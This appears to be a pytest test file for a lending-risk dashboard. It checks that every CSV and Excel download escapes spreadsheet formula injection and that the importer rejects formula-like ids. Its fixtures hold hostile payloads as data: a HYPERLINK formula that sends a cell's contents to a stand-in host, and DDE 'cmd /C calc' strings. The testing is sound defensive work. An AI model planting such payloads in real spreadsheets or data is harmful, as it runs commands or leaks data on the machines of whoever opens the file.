"""Spreadsheet formula injection (issue 14): no CSV or Excel file the app hands out holds a text cell
that starts with = + - @, a tab or CR, on a store whose ids and texts carry such payloads (written
straight into the store, as an older lendrisk accepted them); the importer refuses them now."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit as st
from apptest_helpers import open_page
from streamlit.testing.v1 import AppTest
from tiny import OBSERVED_TO, signed_session, tiny_tables

from lendrisk import auth, export, ingest, store

ROOT = Path(__file__).resolve().parent.parent
LOAN = '=HYPERLINK("https://x?q="&C2,"details")'
BORROWER = "@SUM(1+1)*cmd|' /C calc'!A0"
REGION = "+1-555-0100"
USERNAME = "=cmd|'/C calc'!A0"
MARCH = dt.date(2024, 3, 31)  # every loan still running: every table and chart has rows
START = ("=", "+", "-", "@", "\t", "\r")
PAGES = {
    "investor1": ["pages/portfolio.py", "pages/holdings.py", "pages/investor_risk.py", "pages/store.py"],
    "admin": [
        "pages/health.py",
        "pages/vintages.py",
        "pages/segments.py",
        "pages/collections.py",
        "pages/reserve.py",
        "pages/disclosure.py",
        "pages/data.py",
    ],
}


def poisoned_tables() -> dict[str, pd.DataFrame]:
    """The tiny platform with loan L1 and borrower B1 renamed to formulas, a formula region and user."""
    tables = tiny_tables()
    for frame in tables.values():
        if "loan_id" in frame:
            frame["loan_id"] = frame["loan_id"].replace("L1", LOAN)
        if "borrower_id" in frame:
            frame["borrower_id"] = frame["borrower_id"].replace("B1", BORROWER)
    tables["borrowers"]["region"] = tables["borrowers"]["region"].replace("Beijing", REGION)
    users = auth.demo_user_rows({"investor1": "I1", "investor2": "I2", "investor3": "I2"})
    extra = users.iloc[[0]].assign(username=USERNAME)
    tables["users"] = pd.concat([users, extra], ignore_index=True)
    return tables


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("store") / "poisoned.duckdb"
    store.build_store(path, poisoned_tables(), source="tiny", observed_to=OBSERVED_TO)
    return path


def formula(cell: str) -> bool:
    """Whether a spreadsheet would run a cell: it starts like a formula and is not a plain number."""
    return cell.startswith(START) and re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell) is None


def cells(name: str, data: bytes) -> list[str]:
    """Every text cell (and header) of a CSV or Excel download."""
    if name.endswith(".xlsx"):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], name
        return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def test_the_writer_neutralises_formula_cells() -> None:
    frame = pd.DataFrame({"=a": [LOAN, BORROWER, "\tx", "\rx", "-1+cmd", "-1"], "n": [-1.5, 2, 3, 4, 5, 6]})
    rows = list(csv.reader(io.StringIO(export.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=a", "n"]
    assert [r[0] for r in rows[1:]] == [f"'{LOAN}", f"'{BORROWER}", "'\tx", "'\rx", "'-1+cmd", "-1"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "3.0", "4.0", "5.0", "6.0"]  # numbers stay numbers
    assert export.excel_row(["=1+1", 3, None]) == ["'=1+1", 3, None]


@pytest.mark.slow  # AppTest runs of the whole dashboard
def test_no_download_of_any_page_holds_a_formula(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    downloads: dict[str, bytes] = {}
    real = st.download_button

    def spy(label, data, file_name=None, *args, **kwargs):
        made = data() if callable(data) else data  # a deferred file is made as a click would make it
        downloads[file_name] = made if isinstance(made, bytes) else str(made).encode()
        return real(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", spy)
    for username, pages in PAGES.items():
        for page in pages:
            at = open_page(db, monkeypatch, username, page, as_of=MARCH)
            assert not at.exception, (page, at.exception)

    def named(prefix: str) -> str:
        return next(name for name in downloads if name.startswith(prefix))

    assert any(name.endswith(".xlsx") for name in downloads)
    shown = {name: cells(name, data) for name, data in downloads.items()}
    expected = {"my_holdings": LOAN, "my_top_borrowers": BORROWER, "accounts": USERNAME}
    for prefix, payload in expected.items():  # the payload is there, as text
        assert f"'{payload}" in shown[named(prefix)], prefix
    bad = {name: [c for c in found if formula(c)] for name, found in shown.items()}
    assert {name: found for name, found in bad.items() if found} == {}
    assert len(downloads) >= 20, sorted(downloads)


@pytest.mark.slow  # AppTest runs of the whole dashboard
def test_the_validation_report_download_is_neutralised(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    downloads: dict[str, bytes] = {}
    real = st.download_button
    monkeypatch.setattr(
        st,
        "download_button",
        lambda label, data, file_name=None, *a, **k: (
            downloads.update({file_name: data}) or real(label, data, file_name, *a, **k)
        ),
    )
    monkeypatch.setenv("LENDRISK_DB", str(db))
    monkeypatch.setenv("LENDRISK_SECRET", "test-secret")
    at = AppTest.from_file(str(ROOT / "pages" / "data.py"), default_timeout=60)
    at.session_state["_auth"] = signed_session(db, "admin")
    at.run()
    bad = f"investor_id,segment,joined_on\n{LOAN.replace(',', ';')},retail,2024-01-01\n".encode()
    at.file_uploader(key="data_files").set_value(("investors.csv", bad, "text/csv"))
    next(b for b in at.button if b.key.startswith("FormSubmitter:upload-")).click()
    at.run()
    assert not at.exception, at.exception
    assert "validation_report.csv" in downloads, ([e.value for e in at.error], sorted(downloads))
    report = cells("validation_report.csv", downloads["validation_report.csv"])
    assert f"'{LOAN.replace(',', ';')}" in report
    assert not [c for c in report if formula(c)]


def test_the_importer_refuses_formula_ids_naming_file_row_and_column(tmp_path: Path) -> None:
    db = tmp_path / "tiny.duckdb"
    store.build_store(db, tiny_tables(), source="tiny", observed_to=OBSERVED_TO)
    before = db.read_bytes()
    tables = poisoned_tables()
    with pytest.raises(ingest.ValidationFailed) as failed:
        ingest.import_tables(db, tables, source="tiny", mode="replace")
    problems = {(p.file, p.row, p.column, p.code) for p in failed.value.problems}
    assert ("loans", 2, "loan_id", "unsafe_id") in problems
    assert ("borrowers", 2, "borrower_id", "unsafe_id") in problems
    assert ("users", 7, "username", "unsafe_id") in problems
    assert db.read_bytes() == before
